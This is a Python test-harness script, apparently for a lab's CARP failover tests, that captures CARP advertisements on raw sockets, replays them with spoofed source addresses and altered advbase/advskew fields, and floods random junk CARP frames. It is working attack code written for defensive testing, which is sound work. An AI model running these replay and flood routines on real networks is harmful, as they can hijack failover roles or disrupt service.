#!/usr/bin/env python3
"""A LAN attacker against CARP, for control/tests/lab_carp_attacks.rs (issue 10.1 and 10.4).

Runs inside the lab's switch namespace, on the switch port that faces a box (a real switch
forwards whatever a LAN host sends; this sends it to one box only). Python's standard library
only (AF_PACKET), bounded in count and time. Never used outside the lab's namespaces.

  capture IFACE SRC_IP OUT TIMEOUT_S       write the first CARP advert from SRC_IP seen on IFACE
                                           to OUT (hex)
  replay IFACE IN NEW_SRC COUNT INTERVAL_S send the captured advert COUNT times, INTERVAL_S
                                           apart, from NEW_SRC; every other one also with
                                           advbase 0 (the HMAC covers neither)
  capture-run IFACE SRC_IP OUT COUNT TIMEOUT_S
                                           write the first COUNT CARP adverts from SRC_IP seen
                                           on IFACE to OUT (hex, one a line)
  replay-run IFACE IN ADVBASE ADVSKEW ROUNDS INTERVAL_S
                                           send the captured run in order, ROUNDS times, one
                                           advert every INTERVAL_S (3 s between rounds), each
                                           with ADVBASE and ADVSKEW (the HMAC covers neither)
  junk IFACE RATE SECONDS SEED             RATE junk CARP frames per second for SECONDS: TTL 255
                                           to 224.0.0.18 from random sources, random VHIDs (half
                                           the lab's LAN VHID 2), random bodies, some short,
                                           half with a valid CARP checksum
Prints one line of results (JSON) on stdout.
"""

import json
import os
import random
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def ip_header(src, total_len, ident=0):
    h = struct.pack(
        "!BBHHHBBH4s4s",
        0x45, 0xE0, total_len, ident, 0x4000, 255, 112, 0,
        socket.inet_aton(src), socket.inet_aton("224.0.0.18"),
    )
    return h[:10] + struct.pack("!H", csum(h)) + h[12:]


def set_ip_src(frame, src):
    ip = bytearray(frame[14:34])
    ip[12:16] = socket.inet_aton(src)
    ip[10:12] = b"\0\0"
    ip[10:12] = struct.pack("!H", csum(bytes(ip)))
    return frame[:14] + bytes(ip) + frame[34:]


def set_carp_advbase(frame, advbase, advskew=None):
    carp = bytearray(frame[34:70])
    carp[5] = advbase
    if advskew is not None:
        carp[2] = advskew
    carp[6:8] = b"\0\0"
    carp[6:8] = struct.pack("!H", csum(bytes(carp)))
    return frame[:34] + bytes(carp) + frame[70:]


def raw(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    return s


def capture(iface, src, out, timeout):
    s = raw(iface)
    s.settimeout(0.5)
    end = time.time() + timeout
    while time.time() < end:
        try:
            f = s.recv(2048)
        except socket.timeout:
            continue
        if len(f) >= 70 and f[12:14] == b"\x08\x00" and f[23] == 112 and f[26:30] == socket.inet_aton(src):
            with open(out, "w") as w:
                w.write(f[:70].hex())
            counter = struct.unpack("!Q", f[42:50])[0]
            print(json.dumps({"captured": True, "vhid": f[35], "counter": counter}))
            return 0
    print(json.dumps({"captured": False}))
    return 1


def replay(iface, path, new_src, count, interval):
    frame = set_ip_src(bytes.fromhex(open(path).read().strip()), new_src)
    fast = set_carp_advbase(frame, 0)
    s = raw(iface)
    for i in range(count):
        s.send(fast if i % 2 else frame)
        time.sleep(interval)
    print(json.dumps({"sent": count}))
    return 0


def capture_run(iface, src, out, count, timeout):
    s = raw(iface)
    s.settimeout(0.5)
    end = time.time() + timeout
    frames = []
    while time.time() < end and len(frames) < count:
        try:
            f = s.recv(2048)
        except socket.timeout:
            continue
        if len(f) >= 70 and f[12:14] == b"\x08\x00" and f[23] == 112 and f[26:30] == socket.inet_aton(src):
            frames.append(f[:70])
    with open(out, "w") as w:
        w.write("\n".join(f.hex() for f in frames))
    counters = [struct.unpack("!Q", f[42:50])[0] for f in frames]
    print(json.dumps({"captured": len(frames), "counters": counters}))
    return 0 if len(frames) == count else 1


def replay_run(iface, path, advbase, advskew, rounds, interval):
    frames = [bytes.fromhex(l) for l in open(path).read().split()]
    frames = [set_carp_advbase(f, advbase, advskew) for f in frames]
    s = raw(iface)
    sent = 0
    for r in range(rounds):
        if r:
            time.sleep(3)
        for f in frames:
            s.send(f)
            sent += 1
            time.sleep(interval)
    print(json.dumps({"sent": sent}))
    return 0


def junk(iface, rate, seconds, seed):
    rnd = random.Random(seed)
    frames = []
    for i in range(4096):
        src = "10.%d.%d.%d" % (rnd.randrange(256), rnd.randrange(256), rnd.randrange(1, 255))
        vhid = 2 if i % 2 == 0 else rnd.randrange(256)
        body_len = 36 if i % 8 else rnd.choice([4, 20, 35, 300])
        body = bytearray(rnd.getrandbits(8) for _ in range(body_len))
        if body_len >= 36:
            body[0] = 0x21
            body[1] = vhid
            body[3] = 7
            if i % 4 < 2:
                body[6:8] = b"\0\0"
                body[6:8] = struct.pack("!H", csum(bytes(body[:36])))
        eth = bytes.fromhex("01005e000012") + bytes.fromhex("00005e0001%02x" % (vhid & 0xFF)) + b"\x08\x00"
        frames.append(eth + ip_header(src, 20 + body_len, i) + bytes(body))
    s = raw(iface)
    total = int(rate * seconds)
    per_tick = max(1, rate // 200)
    start = time.time()
    sent = 0
    errors = 0
    while sent < total and time.time() - start < seconds + 5:
        due = min(total, int((time.time() - start) * rate) + per_tick)
        while sent < due:
            try:
                s.send(frames[sent % len(frames)])
            except OSError:
                errors += 1
            sent += 1
        time.sleep(0.005)
    took = time.time() - start
    print(json.dumps({"sent": sent, "errors": errors, "seconds": took, "rate": sent / took}))
    return 0


def main(argv):
    cmd = argv[1]
    if cmd == "capture":
        return capture(argv[2], argv[3], argv[4], float(argv[5]))
    if cmd == "replay":
        return replay(argv[2], argv[3], argv[4], int(argv[5]), float(argv[6]))
    if cmd == "capture-run":
        return capture_run(argv[2], argv[3], argv[4], int(argv[5]), float(argv[6]))
    if cmd == "replay-run":
        return replay_run(argv[2], argv[3], int(argv[4]), int(argv[5]), int(argv[6]), float(argv[7]))
    if cmd == "junk":
        return junk(argv[2], int(argv[3]), float(argv[4]), int(argv[5]))
    print("unknown command", cmd, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
